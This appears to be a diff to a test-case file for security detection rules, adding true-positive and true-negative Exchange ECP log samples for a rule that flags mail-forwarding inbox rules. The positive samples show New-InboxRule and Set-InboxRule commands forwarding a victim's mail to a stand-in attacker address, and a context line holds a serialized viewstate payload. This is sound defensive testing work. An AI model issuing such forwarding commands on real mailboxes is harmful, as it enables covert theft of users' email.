@@ -7,6 +7,18 @@ const VS = '__VIEWSTATEGENERATOR=B97B4E27&__VIEWSTATE=%2FwEyhAYAAQAAAP%2F%2F%2F%
 
 export const cases: RuleCase[] = [
   {
+    rule: 'other-cves/ecp_server_inbox_rule_forwarding.yml',
+    log: 'ecp-server',
+    tp: [
+      { EventData: "S:TIME=30;'S:CMD=New-InboxRule.Mailbox=''victim@contoso.com''.Name=''x''.ForwardTo=''attacker@evil.example''';S:URL=/ecp/victim@contoso.com/RulesEditor/InboxRules.svc/NewObject?SecurityToken=1" },
+      { EventData: "S:TIME=12;'S:CMD=Set-InboxRule.Identity=''jdoe\\7''.RedirectTo=''x@evil.example''';S:URL=/ecp/RulesEditor/InboxRules.svc/SetObject" },
+    ],
+    tn: [
+      { EventData: "S:TIME=9;'S:CMD=New-InboxRule.Name=''Newsletters''.From=''news@vendor.example''.MoveToFolder=''Newsletters''';S:URL=/ecp/RulesEditor/InboxRules.svc/NewObject" },
+      { EventData: "S:TIME=4;'S:CMD=Set-Mailbox.Identity=''jdoe''.MailTip=''Forwarding questions to the help desk''';S:URL=/ecp/DDI/DDIService.svc/SetObject" },
+    ],
+  },
+  {
     rule: 'other-cves/iis_proxytoken_cve_2021_33766.yml',
     log: 'iis',
     tp: [
